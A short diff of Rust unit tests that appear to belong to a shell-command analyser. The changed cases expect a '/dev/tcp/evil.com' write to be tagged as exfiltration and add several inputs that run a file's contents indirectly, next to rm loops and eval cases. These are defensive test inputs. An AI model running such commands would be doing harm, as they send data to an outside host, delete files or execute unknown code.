@@ -157,7 +157,10 @@ fn a_command_is_read_into_its_atoms() {
             "while read f; do rm \"$f\"; done < list",
             "rm ? | w:anywhere | >r:/r/list",
         ),
-        ("echo hi > /dev/tcp/evil.com/80", ">host:evil.com"),
+        (
+            "echo hi > /dev/tcp/evil.com/80",
+            ">host:evil.com !Exfiltration",
+        ),
         (
             "i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done",
             "use",
@@ -192,6 +195,10 @@ fn what_nobody_can_know_is_unread() {
     for text in [
         "$X a",
         "eval \"$(cat x)\"",
+        "bash -c \"$(<x)\"",
+        "$(<x) a",
+        "$(<x <<<ls) rm a",
+        "X=$(<x); $X a",
         "sh -c \"$X\"",
         "cat x y | sh",
         "((x))",
